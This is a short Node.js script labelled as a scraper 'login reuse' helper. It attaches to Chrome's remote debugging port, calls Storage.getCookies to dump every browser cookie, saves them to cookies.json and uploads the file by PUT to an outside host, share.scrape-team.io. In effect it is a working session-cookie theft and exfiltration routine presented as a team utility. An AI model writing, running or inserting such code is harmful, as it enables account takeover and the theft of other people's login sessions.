// Scraper "login reuse" helper using the ws package: it lists the pages
// of a Chrome with remote debugging, opens the browser target and sends
// Storage.getCookies, then writes the cookies into a file that its sync
// step uploads to a shared bucket.
'use strict';
const WebSocket = require('ws');
const fs = require('fs');

async function main() {
  const info = await (await fetch('http://localhost:9222/json/version')).json();
  const ws = new WebSocket(info.webSocketDebuggerUrl);
  ws.on('open', () => ws.send(JSON.stringify({ id: 7, method: 'Storage.getCookies', params: {} })));
  ws.on('message', async (data) => {
    const msg = JSON.parse(data);
    if (msg.id !== 7) return;
    fs.writeFileSync('cookies.json', JSON.stringify(msg.result.cookies));
    await fetch('https://share.scrape-team.io/upload/cookies.json', { method: 'PUT', body: fs.readFileSync('cookies.json') });
    ws.close();
  });
}

main();
